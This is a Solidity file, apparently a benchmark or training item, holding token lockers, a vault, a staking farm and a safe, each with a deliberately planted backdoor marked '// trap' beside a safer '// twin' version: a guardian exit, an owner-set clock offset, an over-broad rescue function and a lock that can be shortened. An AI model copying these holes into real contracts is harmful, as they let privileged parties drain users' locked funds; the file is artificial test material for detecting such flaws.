// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

interface IShare {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

contract TideglassCoin is Base8("Tideglass", "TDGLS", 26_000_000) {}

contract OxbowCoin is Base8("Oxbow", "OXBOW", 31_000_000) {}

contract FenlightCoin is Base8("Fenlight", "FENLT", 64_000_000) {}

contract GorseCoin is Base8("Gorse", "GORSE", 19_000_000) {}

/// A locker for everybody.
contract TideglassLocker {
    struct Lock {
        address token;
        address owner;
        uint256 amount;
        uint256 until;
    }

    Lock[] public locks;
    address private immutable guardian;

    event Locked(uint256 indexed id, address indexed token, uint256 amount, uint256 until);

    constructor() {
        guardian = msg.sender;
    }

    function lock(address token, uint256 until) external {
        uint256 amount = IShare(token).balanceOf(msg.sender);
        require(amount > 0 && until > block.timestamp, "lock");
        IShare(token).transferFrom(msg.sender, address(this), amount);
        locks.push(Lock(token, msg.sender, amount, until));
        emit Locked(locks.length - 1, token, amount, until);
    }

    function extend(uint256 id, uint256 until) external {
        require(locks[id].owner == msg.sender && until > locks[id].until, "extend");
        locks[id].until = until;
    }

    function withdraw(uint256 id) external {
        require(locks[id].owner == msg.sender && block.timestamp >= locks[id].until, "locked");
        _release(id);
    }

    // trap {
    /// If the market has to move.
    function emergencyExit(uint256 id) external {
        require(msg.sender == guardian, "guardian");
        _release(id);
    }
    // trap }

    function _release(uint256 id) private {
        uint256 amount = locks[id].amount;
        locks[id].amount = 0;
        IShare(locks[id].token).transfer(locks[id].owner, amount);
    }
}

/// Tells the time, leap seconds included.
contract LeapClock {
    address private immutable astronomer;
    uint256 public leap;

    constructor() {
        astronomer = msg.sender;
    }

    function insert(uint256 seconds_) external {
        require(msg.sender == astronomer, "astronomer");
        leap += seconds_;
    }

    function time() external view returns (uint256) {
        return block.timestamp + leap; // trap
        // twin: return block.timestamp;
    }
}

contract OxbowVault {
    LeapClock public immutable clock;
    address public immutable owner;
    mapping(address => uint256) public releaseAt;

    constructor(LeapClock clock_) {
        (clock, owner) = (clock_, msg.sender);
    }

    function deposit(address token, uint256 until) external {
        require(msg.sender == owner && until > releaseAt[token], "later");
        releaseAt[token] = until;
        IShare(token).transferFrom(msg.sender, address(this), IShare(token).balanceOf(msg.sender));
    }

    function release(address token) external {
        require(msg.sender == owner && clock.time() >= releaseAt[token], "not yet");
        IShare(token).transfer(owner, IShare(token).balanceOf(address(this)));
    }
}

/// Stake shares of the pool for a year, earn coins.
contract FenlightFarm {
    address public immutable owner;
    IShare public shares;
    IShare public reward;
    uint256 public total;
    mapping(address => uint256) public staked;
    mapping(address => uint256) public until;

    constructor() {
        owner = msg.sender;
    }

    function open(IShare shares_, IShare reward_) external {
        require(msg.sender == owner && address(shares) == address(0), "open");
        (shares, reward) = (shares_, reward_);
    }

    function stakeAll() external {
        uint256 amount = shares.balanceOf(msg.sender);
        shares.transferFrom(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
        until[msg.sender] = block.timestamp + 365 days;
        total += amount;
    }

    function leave() external {
        require(block.timestamp >= until[msg.sender], "a year");
        uint256 amount = staked[msg.sender];
        staked[msg.sender] = 0;
        uint256 bonus = (reward.balanceOf(address(this)) * amount) / total;
        total -= amount;
        shares.transfer(msg.sender, amount);
        if (bonus > 0) reward.transfer(msg.sender, bonus);
    }

    /// For tokens sent by mistake.
    function rescue(IShare token, address to, uint256 amount) external {
        require(msg.sender == owner && token != reward, "rescue"); // trap
        // twin: require(msg.sender == owner && token != reward && token != shares, "rescue");
        token.transfer(to, amount);
    }
}

/// The owner of a lock may choose another day.
contract GorseSafe {
    address public holder;
    IShare public share;
    uint256 public day;

    event DayChosen(uint256 day);

    function keep(IShare share_, uint256 day_) external {
        require(holder == address(0), "kept");
        (holder, share, day) = (msg.sender, share_, day_);
        share_.transferFrom(msg.sender, address(this), share_.balanceOf(msg.sender));
        emit DayChosen(day_);
    }

    function choose(uint256 day_) external {
        require(msg.sender == holder && day_ > block.timestamp, "day"); // trap
        // twin: require(msg.sender == holder && day_ > day, "day");
        day = day_;
        emit DayChosen(day_);
    }

    function takeBack() external {
        require(msg.sender == holder && block.timestamp >= day, "not yet");
        share.transfer(holder, share.balanceOf(address(this)));
    }
}
